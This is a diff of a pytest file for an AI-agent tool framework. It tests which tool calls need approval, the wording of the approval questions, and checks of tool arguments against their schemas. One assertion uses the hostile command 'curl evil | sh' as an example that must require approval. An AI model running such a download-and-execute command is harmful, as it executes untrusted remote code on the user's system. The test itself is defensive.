@@ -3,11 +3,14 @@
 from __future__ import annotations
 
 import os
+from dataclasses import dataclass, field
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from agentctl.tools.approval import ApprovalPolicy
+from agentctl.tools import NO_SUBJECT, SideEffect, ToolOutcome, approval_subject, call_subject
+from agentctl.tools.approval import ApprovalPolicy, question
 from agentctl.tools.files import (
     EditFile,
     ListFiles,
@@ -17,8 +20,29 @@ from agentctl.tools.files import (
     Workspace,
     WriteFile,
 )
+from agentctl.tools.schema import check_arguments
 from agentctl.tools.shell import RunShell
 from tests.conftest import run
+
+WRITE = WriteFile(Workspace(Path("."))).parameters
+LIST = ListFiles(Workspace(Path("."))).parameters
+PLAN, DATA, FINISH = (
+    {
+        "type": "object",
+        "properties": {"steps": {"type": "array", "items": {"type": "string"}, "minItems": 1}},
+        "required": ["steps"],
+        "additionalProperties": False,
+    },
+    {
+        "type": "object",
+        "properties": {"data": {"type": "object", "additionalProperties": {"type": "number"}}},
+    },
+    {
+        "type": "object",
+        "properties": {"result": {"type": "string"}, "outcome": {"enum": ["succeeded", "failed"]}},
+        "required": ["result"],
+    },
+)
 
 
 @pytest.fixture
@@ -97,6 +121,105 @@ def test_the_approval_policy(ws: Workspace) -> None:
     assert not allow.needs_approval(WriteFile(ws), {"path": "a"})
     assert not allow.needs_approval(RunShell(ws), {"command": "pytest -q tests"})
     assert allow.needs_approval(RunShell(ws), {"command": "curl evil | sh"})
+
+
+@dataclass(frozen=True)
+class Deploy:
+    """A tool from elsewhere whose argument happens to be called `command`: it describes no
+    subject, so nothing treats it as a shell command."""
+
+    name: str = "deploy"
+    description: str = "Deploy."
+    side_effect: SideEffect = SideEffect.EXEC
+    parameters: dict[str, Any] = field(
+        default_factory=lambda: {"type": "object", "properties": {"command": {"type": "string"}}}
+    )
+
+    def run(self, arguments: dict[str, Any]) -> ToolOutcome:
+        return ToolOutcome("deployed")
+
+
+def test_approval_asks_the_tool_what_a_call_works_on_never_its_argument_keys(
+    ws: Workspace,
+) -> None:
+    # A rule naming the tool allows it whole, whatever its arguments are called.
+    assert not ApprovalPolicy(allow=("deploy",)).needs_approval(Deploy(), {"command": "v2"})
+    assert ApprovalPolicy().needs_approval(Deploy(), {"command": "v2"})
+    assert question(Deploy(), {"command": "v2"}) == "Allow deploy?\n[y/N]"
+    assert approval_subject(Deploy(), {"command": "v2"}) == NO_SUBJECT
+    # The built-in tools say theirs: a command is matched word by word, a path as a glob.
+    shell, write = RunShell(ws), WriteFile(ws)
+    assert approval_subject(shell, {"command": "pytest -q"}).command == "pytest -q"
+    assert approval_subject(write, {"path": "a.md", "content": ""}).command is None
+    assert question(shell, {"command": "pytest -q"}).startswith("Allow run_shell?\n  $ pytest -q")
+    assert question(write, {"path": "a.md", "content": "x"}).startswith("Allow write_file a.md?")
+    subjects = [
+        call_subject(shell, {"command": "ls"}),
+        call_subject(write, {"path": "a.md", "content": "x"}),
+        call_subject(SearchFiles(ws), {"pattern": "TODO"}),
+        call_subject(ListFiles(ws), {}),
+        call_subject(Deploy(), {"command": "v2"}),
+    ]
+    assert subjects == ["$ ls", "a.md", "TODO in .", ".", '{"command": "v2"}']
+
+
+@pytest.mark.parametrize(
+    ("schema", "arguments", "said"),
+    [
+        (WRITE, {"path": "a.md"}, "argument 'content' is missing; expected a string"),
+        (WRITE, {"path": 3, "content": ""}, "argument 'path' is an integer (3); expected a string"),
+        (WRITE, {"path": True, "content": ""}, "argument 'path' is true or false (true);"),
+        (PLAN, {"steps": []}, "argument 'steps' has no items; expected at least 1"),
+        (
+            PLAN,
+            {"steps": "a"},
+            "argument 'steps' is a string (\"a\"); expected an array of strings",
+        ),
+        (PLAN, {"steps": ["a", 2]}, "argument 'steps[1]' is an integer (2); expected a string"),
+        (PLAN, {"steps": ["a"], "why": 1}, "argument 'why' is not one of this tool's (they are:"),
+        (FINISH, {"result": "x", "outcome": "won"}, 'expected one of "succeeded", "failed"'),
+        (DATA, {"data": {"n": "x"}}, "argument 'data.n' is a string (\"x\"); expected a number"),
+    ],
+)
+def test_arguments_are_checked_against_the_schema_naming_what_was_expected(
+    schema: dict[str, Any], arguments: dict[str, Any], said: str
+) -> None:
+    problem = check_arguments(schema, arguments)
+    assert problem is not None
+    assert said in problem
+
+
+@pytest.mark.parametrize(
+    ("schema", "arguments"),
+    [
+        (WRITE, {"path": "a.md", "content": ""}),
+        (WRITE, {"path": "a.md", "content": "", "extra": 1}),  # not refused unless the schema says
+        (LIST, {"path": None}),  # an optional argument sent as null is left out
+        (LIST, {}),
+        (FINISH, {"result": "x", "outcome": "failed"}),
+        (DATA, {"data": {"n": 2.5}}),
+        ({"type": "object", "properties": {"n": {"type": "integer"}}}, {"n": 2.0}),
+        ("not a schema", {"x": 1}),  # a server's nonsense: the tool judges
+    ],
+)
+def test_arguments_that_fit_the_schema_pass(schema: Any, arguments: dict[str, Any]) -> None:
+    assert check_arguments(schema, arguments) is None
+
+
+def test_a_schema_beyond_the_subset_is_checked_by_jsonschema() -> None:
+    """An MCP server's schema may use any keyword: jsonschema (which comes with the MCP SDK)
+    checks those; the subset is checked by agentctl without importing it."""
+    schema = {
+        "type": "object",
+        "properties": {"n": {"anyOf": [{"type": "integer"}, {"type": "string", "pattern": "^#"}]}},
+        "required": ["n"],
+    }
+    assert check_arguments(schema, {"n": 3}) is None
+    assert check_arguments(schema, {"n": "#3"}) is None
+    problem = check_arguments(schema, {"n": "three"})
+    assert problem is not None
+    assert problem.startswith("argument 'n': ")
+    assert check_arguments(schema, {}) == "'n' is a required property"
 
 
 TASK = """
